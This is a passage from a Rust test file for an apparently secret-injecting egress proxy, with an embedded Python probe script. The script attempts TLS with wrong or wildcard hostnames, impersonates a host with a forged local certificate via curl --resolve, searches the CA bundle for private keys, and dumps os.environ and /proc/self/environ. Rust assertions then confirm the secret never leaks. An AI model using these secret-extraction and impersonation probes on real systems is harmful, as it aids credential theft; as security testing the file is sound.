for name in ["b.example", "echo.example", "*.example", ""]:
    s = tunnel("a.example", SECURE)
    context = ssl.create_default_context(); context.check_hostname = bool(name)
    try:
        t = context.wrap_socket(s, server_hostname=name or None); print("SUCCEEDED TLS", name, t.getpeercert())
    except (OSError, ValueError): pass
s = ssl.create_default_context().wrap_socket(tunnel("a.example", SECURE), server_hostname="a.example")
s.sendall(b"GET / HTTP/1.1\r\nHost: a.example:SECURE\r\nConnection: close\r\n\r\n"); told.append(everything(s))
if "hello" not in told[-1]: print("the right name is refused as well")
bundle = open(os.environ["SSL_CERT_FILE"]).read()
if "PRIVATE KEY" in bundle: print("SUCCEEDED a key is inside")
server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); server.load_cert_chain("c.pem", "k.pem")
listener = socket.create_server(("127.0.0.1", 8443))
if os.fork() == 0:
    try: server.wrap_socket(listener.accept()[0], server_side=True)
    finally: os._exit(0)
forged = subprocess.run(["curl", "-sS", "--noproxy", "*", "--resolve", "b.example:8443:127.0.0.1", "https://b.example:8443/"], capture_output=True, text=True)
if forged.returncode != 60: print("SUCCEEDED forged", forged)
print("TOLD", told, os.environ, open("/proc/self/environ").read())
"#;
        let ports = [("ECHO", echo), ("PLAIN", plain), ("SECURE", secure.port)];
        let attempt = ports
            .iter()
            .fold(attempt.to_owned(), |attempt, (name, port)| attempt.replace(name, &port.to_string()));
        let outcome = world.tried(&online, &attempt, door());
        let told = text(&outcome.stdout) + &text(&outcome.stderr);
        assert_eq!(outcome.status, CommandStatus::Exited(0), "{means:?} {told}");
        assert!(told.contains("TOLD") && !told.contains("SUCCEEDED"), "{means:?} {told}");
        assert!(!told.contains("the right name is refused"), "{means:?} {told}");
        let at = told.find(SECRET).unwrap_or(0);
        assert!(at == 0, "{means:?}: it came back: {}", &told[at.saturating_sub(300)..at + 30]);
        assert!(!format!("{outcome:?}").contains(SECRET), "the log has it");
        let (seen, plain_seen) = (seen.lock().unwrap().clone(), plain_seen.lock().unwrap().clone());
        assert!(seen.matches(SECRET).count() > 40 && !seen.contains("mine"), "{means:?} {seen}");
        assert!(!plain_seen.contains(SECRET), "{means:?} {plain_seen}");
        assert!(!world.granted.seen().contains(SECRET), "{means:?} {}", world.granted.seen());
        assert!(secure.seen.lock().unwrap().contains(SECRET));
    }
}
